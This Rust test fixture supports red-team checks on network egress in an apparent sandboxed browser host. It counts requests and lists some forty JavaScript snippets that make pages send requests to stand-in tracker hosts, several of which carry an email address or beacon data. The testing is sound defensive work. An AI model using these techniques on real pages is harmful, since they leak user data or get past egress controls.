//! What the egress red-team suites share (`tests/redteam_egress.rs`, `tests/redteam_builtins.rs`): the paths they try
//! and a transport that counts what reaches it.

use std::cell::RefCell;
use std::rc::Rc;

use sdkhost::network::{Answer, Request, StubTransport, Transport};

/// A transport that counts what reaches it, answering like the stub.
pub(crate) struct Counting(pub(crate) Rc<RefCell<Vec<String>>>);

impl Transport for Counting {
    fn name(&self) -> &str {
        "counting"
    }
    fn send(&mut self, req: &Request) -> Answer {
        self.0.borrow_mut().push(format!("{:?} {}", req.initiator, req.url));
        StubTransport::default_answer()
    }
}

/// (name, the initiators of the requests it must make, in order, page JS).
pub(crate) const PATHS: &[(&str, &[&str], &str)] = &[
    (
        "img srcset",
        &["image"],
        "var i = document.createElement('img'); i.srcset = 'https://t.example/a.gif 1x, https://t.example/b.gif 2x';",
    ),
    (
        "img srcset in the document",
        &["image"],
        "var i = document.createElement('img'); document.body.appendChild(i); i.setAttribute('srcset', 'https://t.example/w.gif 100w');",
    ),
    (
        "picture>source",
        &["image"],
        "var p = document.createElement('picture'), s = document.createElement('source'); s.srcset = 'https://t.example/p.webp'; p.appendChild(s); p.appendChild(document.createElement('img')); document.body.appendChild(p);",
    ),
    (
        "script",
        &["script"],
        "var s = document.createElement('script'); s.src = 'https://t.example/s.js'; document.head.appendChild(s);",
    ),
    (
        "link stylesheet",
        &["link"],
        "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://t.example/s.css'; document.head.appendChild(l);",
    ),
    (
        "link preload",
        &["link"],
        "var l = document.createElement('link'); l.href = 'https://t.example/p'; l.setAttribute('rel', 'preload'); l.as = 'fetch'; document.head.appendChild(l);",
    ),
    (
        "link prefetch",
        &["link"],
        "var l = document.createElement('link'); l.rel = 'prefetch'; document.head.appendChild(l); l.href = 'https://t.example/pf';",
    ),
    (
        "link modulepreload",
        &["link"],
        "var l = document.createElement('link'); l.rel = 'modulepreload'; l.href = 'https://t.example/m.js'; document.head.appendChild(l);",
    ),
    (
        "link icon",
        &["link"],
        "var l = document.createElement('link'); l.rel = 'shortcut icon'; l.href = 'https://t.example/favicon.ico'; document.head.appendChild(l);",
    ),
    (
        "iframe",
        &["iframe"],
        "var f = document.createElement('iframe'); f.src = 'https://t.example/frame?u=1'; document.body.appendChild(f);",
    ),
    (
        "frame",
        &["iframe"],
        "var f = document.createElement('frame'); document.body.appendChild(f); f.src = 'https://t.example/frame';",
    ),
    ("new Audio", &["media"], "new Audio('https://t.example/a.mp3');"),
    ("video src", &["media"], "document.createElement('video').src = 'https://t.example/v.mp4';"),
    (
        "video>source",
        &["media"],
        "var v = document.createElement('video'), s = document.createElement('source'); s.src = 'https://t.example/v.webm'; v.appendChild(s);",
    ),
    ("video poster", &["image"], "document.createElement('video').poster = 'https://t.example/poster.jpg';"),
    (
        "track",
        &["media"],
        "var v = document.createElement('video'); v.preload = 'none'; document.body.appendChild(v); var t = document.createElement('track'); t.src = 'https://t.example/subs.vtt'; v.appendChild(t);",
    ),
    (
        "audio preload=none play()",
        &["media"],
        "var a = document.createElement('audio'); a.preload = 'none'; a.src = 'https://t.example/late.mp3'; a.play();",
    ),
    (
        "embed",
        &["embed"],
        "var e = document.createElement('embed'); e.src = 'https://t.example/e.swf'; document.body.appendChild(e);",
    ),
    (
        "object",
        &["embed"],
        "var o = document.createElement('object'); o.data = 'https://t.example/o.pdf'; document.body.appendChild(o);",
    ),
    (
        "input type=image",
        &["image"],
        "var i = document.createElement('input'); i.type = 'image'; i.src = 'https://t.example/btn.png';",
    ),
    (
        "a.click()",
        &["anchor"],
        "var a = document.createElement('a'); a.href = 'https://t.example/out?id=1'; document.body.appendChild(a); a.click();",
    ),
    (
        "dispatched click on a child of a link",
        &["anchor"],
        "var a = document.createElement('a'), b = document.createElement('span'); a.href = 'https://trk.shop.example/c'; a.appendChild(b); document.body.appendChild(a); b.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));",
    ),
    (
        "area click",
        &["anchor"],
        "var a = document.createElement('area'); a.href = 'https://t.example/area'; a.click();",
    ),
    (
        "a target=_blank",
        &["anchor"],
        "var a = document.createElement('a'); a.href = 'https://t.example/new'; a.target = '_blank'; a.click();",
    ),
    (
        "a ping",
        &["ping", "anchor"],
        "var a = document.createElement('a'); a.href = '/next'; a.ping = 'https://t.example/ping'; a.click();",
    ),
    (
        "form.submit()",
        &["form"],
        "var f = document.createElement('form'); f.action = 'https://t.example/f'; f.method = 'post'; f.innerHTML = '<input name=email value=a@b.example>'; document.body.appendChild(f); f.submit();",
    ),
    (
        "form.requestSubmit()",
        &["form"],
        "var f = document.createElement('form'); f.action = 'https://t.example/g'; f.innerHTML = '<input name=q value=1>'; document.body.appendChild(f); f.requestSubmit();",
    ),
    (
        "submit button click",
        &["form"],
        "document.body.innerHTML = '<form action=\"https://t.example/b\"><input name=x value=1><button id=go>Go</button></form>'; document.getElementById('go').click();",
    ),
    ("window.open", &["window_open"], "console.log('open ' + window.open('https://t.example/pop'));"),
    ("same-site location.href", &["navigation"], "location.href = 'https://trk.shop.example/c?email=a%40b.example';"),
    ("cross-site location.assign", &["navigation"], "location.assign('https://t.example/leave');"),
    ("location.replace", &["navigation"], "location.replace('/elsewhere');"),
    ("location.reload", &["navigation"], "location.reload();"),
    (
        "meta refresh",
        &["refresh"],
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"1; url=https://t.example/r\">');",
    ),
    ("innerHTML img", &["image"], "document.body.innerHTML = '<img src=\"https://t.example/ih.gif\">';"),
    (
        "innerHTML on a detached element",
        &["image"],
        "document.createElement('div').innerHTML = '<p><img srcset=\"https://t.example/d.gif\"></p>';",
    ),
    (
        "outerHTML iframe",
        &["iframe"],
        "var d = document.createElement('div'); document.body.appendChild(d); d.outerHTML = '<iframe src=\"https://t.example/oh\"></iframe>';",
    ),
    (
        "insertAdjacentHTML link",
        &["link"],
        "document.head.insertAdjacentHTML('afterbegin', '<link rel=stylesheet href=\"https://t.example/x.css\">');",
    ),
    ("document.write script", &["script"], "document.write('<script src=\"https://t.example/w.js\"></scr' + 'ipt>');"),
    ("document.write img", &["image"], "document.writeln('<img src=https://t.example/w.gif>');"),
    (
        "Navigator.prototype.sendBeacon.call",
        &["beacon"],
        "Navigator.prototype.sendBeacon.call(navigator, 'https://t.example/b', 'x');",
    ),
];
